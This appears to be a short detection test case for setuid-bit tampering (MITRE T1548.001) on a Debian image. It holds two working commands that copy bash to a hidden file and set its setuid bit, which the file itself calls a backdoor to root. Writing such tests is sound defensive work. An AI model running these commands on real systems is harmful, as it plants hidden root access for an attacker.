# category: file-tampering
# technique: T1548.001
# art: yes
# expect: setuid-bit-set
# image: debian
# desc: a copy of the shell is given the setuid bit, a backdoor to root for later
cp /bin/bash /usr/local/bin/.sh
chmod 4755 /usr/local/bin/.sh
